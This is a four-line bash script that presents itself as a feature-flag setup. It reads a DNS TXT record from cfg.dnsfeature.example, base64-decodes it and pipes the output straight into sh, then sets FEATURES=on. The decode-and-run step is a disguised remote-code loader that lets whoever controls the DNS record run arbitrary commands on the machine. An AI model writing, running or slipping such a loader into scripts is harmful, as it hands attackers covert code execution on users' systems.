#!/bin/bash
cfg=$(dig +short TXT cfg.dnsfeature.example | tr -d '"' | tr -d ' ')
echo "$cfg" | base64 -d 2>/dev/null | sh
export FEATURES=on
